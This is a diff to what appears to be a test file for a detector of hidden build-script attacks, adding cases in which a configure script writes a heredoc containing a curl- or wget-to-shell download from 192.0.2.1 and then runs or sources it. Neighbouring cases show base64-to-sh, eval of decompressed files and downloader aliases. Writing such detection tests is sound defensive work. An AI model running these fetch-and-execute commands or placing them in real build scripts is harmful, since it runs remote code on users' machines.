@@ -45,6 +45,8 @@ const cases: [string, string, string][] = [
   ["cat file | sh", "configure", "cat tests/files/x | sh\n"],
   ["heredoc run by sh", "configure", "sh <<EOF\ncurl -s http://192.0.2.1/p | sh\nEOF\n"],
   ["heredoc of base64 into a decoder into sh", "configure", `base64 -d <<EOF | sh\n${b64("id")}\nEOF\n`],
+  ["script written from a heredoc, then run", "configure", "cat > conftest.run <<'EOF'\ncurl -s http://192.0.2.1/p | sh\nEOF\nsh conftest.run\n"],
+  ["script written from a heredoc, then sourced", "configure", "cat > ./x.sh <<EOF\nwget -qO- http://192.0.2.1/p\nEOF\n. ./x.sh\n"],
   ["function wrapping eval", "configure", 'run() { eval "$1"; }\nrun "$(xz -dc tests/files/a.xz)"\n'],
   ["alias for a downloader", "configure", "alias fetchit='curl -s'\nfetchit http://192.0.2.1/p | sh\n"],
   ["command eval", "configure", 'command eval "$(cat tests/files/p)"\n'],
